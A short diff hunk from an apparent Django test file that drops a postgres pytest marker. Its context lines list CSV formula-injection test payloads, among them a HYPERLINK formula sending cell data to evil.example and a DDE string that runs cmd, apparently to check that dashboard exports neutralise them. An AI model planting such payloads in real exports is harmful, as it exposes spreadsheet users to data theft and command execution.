@@ -16,7 +16,7 @@ from funnel.dashboard import tables
 from funnel.models import DailyVisit
 from leads.models import Lead
 
-pytestmark = [pytest.mark.django_db, pytest.mark.postgres]
+pytestmark = [pytest.mark.django_db]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
            "\t=1+2", "\r=1+2", 'a","=1+2']
